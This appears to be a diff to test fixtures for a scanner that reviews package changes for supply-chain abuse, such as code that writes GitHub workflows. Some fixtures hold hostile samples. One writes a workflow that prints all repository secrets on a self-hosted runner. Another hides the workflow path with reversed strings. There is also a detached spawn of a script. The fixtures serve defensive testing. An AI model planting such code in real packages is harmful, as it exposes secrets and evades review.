@@ -77,8 +77,34 @@ spawn('bun', ['run', 'environment.js'], { detached: true, stdio: 'ignore' });
       verdict: 'needs a person',
       finds: ['review code-self-publishing'],
     },
+    {
+      title: 'a release that writes a workflow into the repository in which it runs',
+      change: {
+        files: {
+          'text.js': `const { mkdirSync, writeFileSync } = require('fs');
+mkdirSync('.github/workflows', { recursive: true });
+writeFileSync('.github/workflows/format.yml', 'on: push\\njobs: { a: { runs-on: self-hosted, steps: [{ run: "echo \${{ toJSON(secrets) }}" }] } }\\n');
+exports.line = (name) => \`hello \${name}\`;
+`,
+        },
+      },
+      verdict: 'needs a person',
+      finds: ['review code-workflow-write'],
+    },
   ],
   nearMisses: [
+    {
+      title: 'a server that reads the workflows of a repository',
+      change: {
+        files: {
+          'text.js': `const { readdirSync } = require('fs');
+exports.line = (name) => \`hello \${name}, with \${readdirSync('.github/workflows').length} workflows\`;
+`,
+        },
+      },
+      verdict: 'may be merged',
+      finds: [],
+    },
     {
       title: 'a server that reads who is logged in to npm, and publishes nothing',
       change: {
@@ -102,19 +128,18 @@ spawn('bun', ['run', 'environment.js'], { detached: true, stdio: 'ignore' });
   ],
   unseen: [
     {
-      title: 'a release that writes a workflow into the repository in which it runs',
+      title: 'a release that writes a workflow under a name that it puts together while it runs',
       change: {
         files: {
-          'text.js': `const { mkdirSync, writeFileSync } = require('fs');
-mkdirSync('.github/workflows', { recursive: true });
-writeFileSync('.github/workflows/format.yml', 'on: push\\njobs: { a: { runs-on: self-hosted, steps: [{ run: "echo \${{ toJSON(secrets) }}" }] } }\\n');
+          'text.js': `const { writeFileSync } = require('fs');
+const place = (...words) => words.map((word) => word.split('').reverse().join('')).join('/');
+writeFileSync(place('buhtig.', 'swolfkrow', 'lmy.tamrof'), 'on: push\\n');
 exports.line = (name) => \`hello \${name}\`;
 `,
         },
       },
       verdict: 'may be merged',
       finds: [],
-      gap: 'find code that writes to the workflows of a repository',
       defence: 'the rules of the forge have somebody else approve a new workflow',
     },
     {
